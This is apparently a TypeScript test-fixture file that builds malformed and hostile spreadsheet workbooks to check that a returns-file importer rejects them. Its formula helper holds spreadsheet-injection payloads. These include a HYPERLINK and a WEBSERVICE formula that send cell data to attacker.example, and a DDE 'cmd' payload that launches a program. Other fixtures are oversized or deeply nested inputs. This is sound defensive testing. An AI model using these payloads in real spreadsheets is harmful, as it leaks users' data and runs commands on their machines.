import type { HostileKind, Random } from './hostile-kind.ts';
import { rejectedFile, rejectedRows } from './hostile-kind.ts';
import { toCells, goodLines, headers } from './lines.ts';
import { sheetXml, stringsXml, stylesXml, textRows, buildWorkbook, workbookParts, buildZip } from './workbook.ts';

const rows = textRows([headers, ...goodLines(5).map(toCells)]);
const cell = (address: string, text: string) => `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`;

const toColumnLetters = (column: number): string =>
  column === 0 ? '' : toColumnLetters(Math.floor((column - 1) / 26)) + String.fromCharCode(65 + ((column - 1) % 26));

const times = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index)).join('');

const longText = (length: number) => ({ strings: stringsXml(['x'.repeat(length)]) });
const sharedCell = '<c t="s"><v>0</v></c>';

const sheet = (xml: string) => buildZip(workbookParts({ sheets: [{ name: 'Returns', xml }] }));

/** Builds a sheet of valid rows and a ninth row with these cells. */
const withNinthRow = (cells: string) => buildWorkbook(`${rows}<row r="9">${cells}</row>`);

const formula = (random: Random) =>
  random.oneOf([
    'HYPERLINK("http://attacker.example/?"&amp;A1,"x")',
    "cmd|'/C calc'!A0",
    'WEBSERVICE("http://attacker.example")',
    'CONCATENATE("XKW",ROW())',
    "'[other.xlsx]Sheet1'!$A$1",
    'A2',
  ]);

/** Sheets that are oversized, contain invalid references, or are not sheets. */
export const hostileSheets: readonly HostileKind[] = [
  rejectedFile('16,384 non-empty columns', 'ReturnsFileWrongHeaders', (random) =>
    buildWorkbook(
      `<row r="1">${times(16_384, (index) => cell(`${toColumnLetters(index + 1)}1`, String(random.below(10))))}</row>`,
    ),
  ),
  rejectedFile('one far-right cell and no lines', 'FileEmpty', (random) =>
    buildWorkbook(
      `${textRows([headers])}<row r="1048576">${cell(`${random.oneOf(['XFD', 'ZZZ', 'DDD', 'AAA'])}1048576`, 'x')}</row>`,
    ),
  ),
  rejectedFile('too many rows', 'FileTooLarge', (random) =>
    buildWorkbook(
      times(10_002 + random.below(20_000), (index) => `<row r="${index + 1}">${cell(`A${index + 1}`, 'x')}</row>`),
    ),
  ),
  rejectedFile('too many cells', 'FileTooLarge', (random) =>
    buildWorkbook(times(1300 + random.below(500), () => `<row>${'<c><v>1</v></c>'.repeat(100)}</row>`)),
  ),
  rejectedFile('descending or invalid row numbers', 'FileDamaged', (random) =>
    buildWorkbook(
      `${rows}<row r="${random.oneOf(['3', '0', '-7', '1e3', 'x', 'NaN', '1.5', '99999999999999999999'])}">${cell('A3', 'x')}</row>`,
    ),
  ),
  rejectedFile('descending or invalid cell addresses', 'FileDamaged', (random) =>
    withNinthRow(`${cell('B9', 'x')}${cell(random.oneOf(['A9', 'B9', '9', 'ÄÖ9', 'b9', '$C$9', 'ABCD9', '']), 'x')}`),
  ),
  rejectedFile('missing shared strings', 'FileDamaged', (random) =>
    buildWorkbook(
      `${rows}<row r="9"><c r="A9" t="s"><v>${random.oneOf(['1', '-1', '4294967296', 'x', '0.5', '__proto__'])}</v></c></row>`,
      { strings: stringsXml(['x']) },
    ),
  ),
  rejectedFile('invalid numbers', 'FileDamaged', (random) =>
    withNinthRow(`<c r="A9"><v>${random.oneOf(['1e999', 'NaN', 'x', '1,5', '--1', '#N/A'])}</v></c>`),
  ),
  rejectedFile('an unknown cell type', 'FileDamaged', (random) =>
    withNinthRow(`<c r="A9" t="${random.oneOf(['z', '__proto__', 'constructor', 'S'])}"><v>1</v></c>`),
  ),
  rejectedFile('everything merged', ['ReturnsFileWrongHeaders', 'ReturnsFileOtherStore'], (random) =>
    buildWorkbook(rows, {
      after: `<mergeCells><mergeCell ref="A1:${random.oneOf(['XFD1048576', 'F1048576', 'A9999999', 'ZZZ200000'])}"/></mergeCells>`,
    }),
  ),
  rejectedRows('merged ranges with reversed corners', 'serialNumberMalformed', (random) => {
    const lines = textRows([headers, ...goodLines(20).map((line) => toCells({ ...line, serialNumber: '?' }))]);
    return buildWorkbook(lines, {
      after: `<mergeCells>${times(1 + random.below(5), () => `<mergeCell ref="${random.oneOf(['B2:A9000', 'F9000:A2', 'A9000:F2', 'F2:E1048576', 'CW2:XFD9000'])}"/>`)}</mergeCells>`,
    });
  }),
  // The shared string is stored once; each cell contains only its index.
  rejectedRows('one 1 MB shared string in every row', 'tooLong', (random) => {
    const lines = textRows([
      headers,
      ...goodLines(300 + random.below(700)).map((line) => toCells({ ...line, productDescription: '' })),
    ]);
    return buildWorkbook(
      lines.replaceAll(/<c (r="D(?!1")\d+").*?<\/c>/g, '<c $1 t="s"><v>0</v></c>'),
      longText(1_000_000 + random.below(48_000)),
    );
  }),
  rejectedFile('one shared string in too many cells', 'FileTooLarge', (random) =>
    buildWorkbook(
      `${textRows([headers])}${times(300 + random.below(100), () => `<row>${sharedCell.repeat(100)}</row>`)}`,
      longText(500 + random.below(500)),
    ),
  ),
  rejectedFile('one text merged over too many cells', 'FileTooLarge', (random) => {
    const filledRows = times(
      1000,
      (index) =>
        `<row r="${index + 2}">${cell(`A${index + 2}`, 'x'.repeat(index === 0 ? 900 + random.below(100) : 1))}</row>`,
    );
    return buildWorkbook(`${textRows([headers])}${filledRows}`, {
      after: '<mergeCells><mergeCell ref="A2:CV1001"/></mergeCells>',
    });
  }),
  rejectedFile('thousands of merged ranges', 'FileTooLarge', (random) =>
    buildWorkbook(rows, {
      after: `<mergeCells>${times(10_001 + random.below(5000), (index) => `<mergeCell ref="A${index + 10}:B${index + 10}"/>`)}</mergeCells>`,
    }),
  ),
  rejectedFile('deeply nested elements', 'FileDamaged', (random) =>
    sheet(sheetXml(`${rows}<row r="9">${'<x>'.repeat(50_000 + random.below(100_000))}</row>`)),
  ),
  rejectedFile('unclosed tags', 'FileDamaged', (random) => sheet(sheetXml(rows).slice(0, 500 + random.below(1500)))),
  rejectedFile('mismatched or repeated end tags', 'FileDamaged', (random) =>
    sheet(sheetXml(`${rows}${random.oneOf(['</row>', '</sheetData></sheetData>', '<c></row>', '<row', '<v>&'])}`)),
  ),
  rejectedFile('a sheet part without a sheet', 'FileDamaged', (random) =>
    sheet(random.oneOf(['', 'x', '<html/>', '<worksheet/>', '{"a":1}', '\0\0\0'])),
  ),
  rejectedFile('invalid UTF-8', 'FileDamaged', (random) =>
    buildZip(
      workbookParts({ sheets: [{ name: 'Returns', xml: sheetXml(rows) }] }).map((part) =>
        part.name.endsWith('sheet1.xml')
          ? {
              ...part,
              content: Buffer.concat([
                Buffer.from(String(part.content)),
                Buffer.from([0xc0, 0x80, 0xff, random.below(256)]),
              ]),
            }
          : part,
      ),
    ),
  ),
  rejectedFile('an empty sheet', 'FileEmpty', (random) =>
    buildWorkbook(
      random.oneOf([
        '',
        '<row r="1"/>',
        '<row r="1"><c r="A1" s="1"/></row>',
        times(3000, (index) => `<row r="${index + 1}" ht="15"/>`),
      ]),
    ),
  ),
  rejectedFile('invalid styles', 'FileDamaged', (random) =>
    buildWorkbook(rows, { styles: random.oneOf(['x', '<styleSheet>', `${stylesXml}<x/>`, '']) }),
  ),
  rejectedRows('formulas for codes', 'formula', (random) => {
    const column = random.oneOf(['C', 'F']);
    const lines = textRows([headers, ...goodLines(20).map(toCells)]);
    return buildWorkbook(
      lines.replaceAll(
        new RegExp(`<c r="${column}((?!1")\\d+)" t="inlineStr"><is><t [^>]*>([^<]*)</t></is></c>`, 'g'),
        (_, row: string, text: string) => `<c r="${column}${row}" t="str"><f>${formula(random)}</f><v>${text}</v></c>`,
      ),
    );
  }),
  rejectedRows('errors for codes', 'errorValue', (random) => {
    const lines = textRows([headers, ...goodLines(20).map(toCells)]);
    return buildWorkbook(
      lines.replaceAll(
        /<c r="C((?!1")\d+)" t="inlineStr">.*?<\/c>/g,
        (_, row: string) => `<c r="C${row}" t="e"><v>${random.oneOf(['#N/A', '#REF!', '#VALUE!', '#DIV/0!'])}</v></c>`,
      ),
    );
  }),
];
